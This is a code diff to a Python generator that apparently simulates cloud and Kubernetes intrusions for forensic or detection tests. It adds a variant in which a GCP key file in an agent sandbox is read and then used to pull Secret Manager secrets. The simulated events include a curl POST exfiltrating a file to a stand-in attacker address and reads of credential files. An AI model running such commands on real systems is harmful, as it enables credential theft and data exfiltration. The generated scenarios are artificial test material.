@@ -660,6 +660,9 @@ class Case:
                                 "ttl": 2400, "type": "service"}, "warnings": None}
                 with open(os.path.join(inv, "vault-token-lookup-%s.json" % acc[:8]), "w") as f:
                     json.dump(doc, f, indent=1)
+        if getattr(self, "gcp_keys", None):
+            with open(os.path.join(inv, "gcloud-iam-service-accounts-keys-list.json"), "w") as f:
+                json.dump(self.gcp_keys, f, indent=1)
         if self.credmap is not None:
             lines = ["# cordon credential map", "# LOCATION PROVIDER CREDENTIAL_ID IDENTITY"]
             lines += ["%s %s %s %s" % e for e in self.credmap]
@@ -1121,6 +1124,9 @@ class Case:
         """§4.8: an escape to the host of node n exposes the node role, the
         kubelet's credentials, every pod's token and secrets, the host files."""
         self.escaped_nodes.add(n["name"])
+        for e in self.truth["escaped"]:
+            if e["pod"] == "%s/%s" % (root["ns"], root["name"]):
+                e["host"] = n["name"]
         self.node_cred(n, t, must=True)
         self.reach_extra.add(("k8s", "system:node:" + n["name"]))
         for p in n["pods"]:
@@ -1259,7 +1265,7 @@ class Case:
         (network join) an address the compromised workload connected to."""
         if self.r.random() < 0.35:
             ip = self.r.public_ip([self.r.choice(ATTACKER_NETS)])
-            self.variant["egress_join"] = ip
+            self.variant.setdefault("egress_join", []).append(ip)
             c = self.run(p, "/usr/bin/curl", "-s -X POST --data-binary @/tmp/.c https://%s/u" % ip, t)
             self.connect(c, t, p.pod["ip"] if p.pod and not p.pod["host_network"] else self.node_of(p)["ip"], ip, 443)
             return ip
@@ -1493,7 +1499,7 @@ class Case:
         # IMDS from the host network namespace
         self.imds_fetch(hsh, t + r.uniform(10, 30), n["ip"], from_host=True)
         tu = t + r.uniform(60, 400)
-        src = self.att_ip
+        src = self.attacker_src(hsh, t + r.uniform(30, 50))
         self.aws_recon(tu, self.node_ident(n, t), src, self.att_ua)
         self.node_cred(n, t, True)
         # another pod's token, used from the node's address
@@ -1532,7 +1538,7 @@ class Case:
             self.env_exposed = self.pod_env_secrets(p)
         acc = self.vault_acc_at(p, t)
         self.vault_cred(p, acc, True)
-        src = self.attacker_src(sh, t + self.r.uniform(2, 20)) if self.r.random() < 0.8 else p["node"]["ip"]
+        src = self.attacker_src(sh, t + self.r.uniform(2, 20))
         tv = t + self.r.uniform(120, 900)
         self.vault(p, tv, "auth/token/lookup-self", "read", src, acc, mount_type="token")
         for i, path in enumerate(["sys/mounts", "secret/metadata/", "secret/data/%s/admin" % p["ns"], "sys/auth"]):
@@ -1744,9 +1750,42 @@ class Case:
                      req={"secretId": "dev/%s" % r.choice(["npm", "pypi", "db", "openai"])})
         self.cred("aws", key, dev["arn"], True, ("user", "dev-sandbox"))
         self.secret_exposed(s_aws, used=True)
+        if r.random() < 0.5:
+            self.s8_gcp(p, sh, t + 5, tu + 300, src)
         if self.credmap is not None:
             self.cred("github", gh_id, "acme-agent-bot", True, ("github", "acme-agent-bot"))
             self.cred("anthropic", llm_id, "acme-agents", True, ("anthropic", "acme-agents"))
+
+    def s8_gcp(self, p, sh, t, tu, src):
+        """S8 variant: a GCP service-account key file bind-mounted into the
+        sandbox, read, then used from outside (GCP audit, Data Access)."""
+        r = self.r
+        proj = r.choice(["acme-dev", "acme-sandbox", "agents-" + r.k8s(4)])
+        sa = "%s@%s.iam.gserviceaccount.com" % (r.choice(["dev-sandbox", "agent-runner", "ci-agent"]), proj)
+        kid = r.hexs(40)
+        kname = "//iam.googleapis.com/projects/%s/serviceAccounts/%s/keys/%s" % (proj, sa, kid)
+        self.gcp_keys = [{"keyAlgorithm": "KEY_ALG_RSA_2048", "keyOrigin": "GOOGLE_PROVIDED", "keyType": "USER_MANAGED",
+                          "name": "projects/%s/serviceAccounts/%s/keys/%s" % (proj, sa, kid),
+                          "validAfterTime": iso(self.S - 40 * DAY, 0), "validBeforeTime": "9999-12-31T23:59:59Z"}]
+        p["hostpaths"].append("/srv/agents/.config/gcloud")
+        path = "/srv/agents/.config/gcloud/application_default_credentials.json"
+        if self.credmap is not None:
+            self.credmap.append(("file:*:" + path, "gcp", kname, sa))
+        c = self.run(sh, "/bin/cat", path, t)
+        self.file_read(c, t + 0.01, path, watch_key="agent_gcp_creds")
+        ua = "google-cloud-sdk gcloud/471.0.0 command/gcloud.secrets.versions.access invocation-id/%s environment/None" % r.hexs(32)
+        ins = lambda: r.b62(12).lower()
+        gcp(self.o, tu, ins(), proj, "google.cloud.secretmanager.v1.SecretManagerService.ListSecrets",
+            "secretmanager.googleapis.com", "projects/%s" % proj, sa, kname, src, ua)
+        for i in range(3):
+            sec = r.choice(["github-app-key", "npm-token", "openai-key", "db-url"])
+            gcp(self.o, tu + 5 + i * 3, ins(), proj, "google.cloud.secretmanager.v1.SecretManagerService.AccessSecretVersion",
+                "secretmanager.googleapis.com", "projects/%s/secrets/%s/versions/latest" % (proj, sec), sa, kname, src, ua)
+        gcp(self.o, tu + 20, ins(), proj, "google.cloud.secretmanager.v1.SecretManagerService.AccessSecretVersion",
+            "secretmanager.googleapis.com", "projects/%s/secrets/prod-db/versions/latest" % proj, sa, kname, src, ua,
+            code=7, perm="secretmanager.versions.access")
+        self.cred("gcp", kname, sa, True, ("gcp", sa))
+        self.variant["gcp"] = True
 
     def fam_s9(self):
         """S9: kubelet credentials via hostPath /var/lib/kubelet -> node impersonation."""
